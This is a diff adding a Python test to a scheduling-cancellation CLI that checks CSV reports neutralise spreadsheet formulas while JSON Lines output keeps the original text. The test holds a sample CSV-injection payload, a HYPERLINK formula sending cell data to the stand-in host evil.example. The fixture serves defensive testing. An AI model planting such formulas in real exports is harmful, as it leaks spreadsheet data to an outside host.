@@ -19,7 +19,7 @@ from schedcancel._journal import CancelOutcome, OutcomeKind, read_journal
 from schedcancel.cli import RunReport, build_parser, outcome_text
 from schedcancel.cli._common import _Streams
 from schedcancel.cli._run import _write_status_report
-from schedcancel.cli._status_report import REPORT_COLUMNS
+from schedcancel.cli._status_report import REPORT_COLUMNS, write_report
 from schedcancel.testing import Faults, ServerLimits
 
 from .support import (
@@ -456,3 +456,27 @@ def test_an_unwritable_report_keeps_the_failure_that_stopped_the_run(tmp_path: P
     assert report.failure is first
     assert "the report was not written" in err.getvalue()
     assert report.exit_code == 3
+
+
+def test_csv_report_defuses_formulas(tmp_path: Path) -> None:
+    """Text a spreadsheet would run as a formula is written as text; JSON Lines keeps it."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    outcomes = [
+        CancelOutcome(
+            schedule_id="SC-1",
+            kind=OutcomeKind.READ,
+            new_status="ACTIVE",
+            merchant_meta_data=hostile,
+        ),
+        CancelOutcome(schedule_id="SC-2", kind=OutcomeKind.FAILED, error_code=-5, error="@SUM(1)"),
+    ]
+    csv_path, jsonl_path = tmp_path / "r.csv", tmp_path / "r.jsonl"
+    write_report(csv_path, "csv", outcomes)
+    write_report(jsonl_path, "jsonl", outcomes)
+    rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
+    assert rows[0]["merchant_meta_data"] == "'" + hostile
+    assert rows[1]["error"] == "'@SUM(1)"
+    assert rows[1]["error_code"] == "-5"  # a number is no formula
+    assert rows[0]["id"] == "SC-1"
+    lines = [json.loads(line) for line in jsonl_path.read_text(encoding="utf-8").splitlines()]
+    assert lines[0]["merchant_meta_data"] == hostile
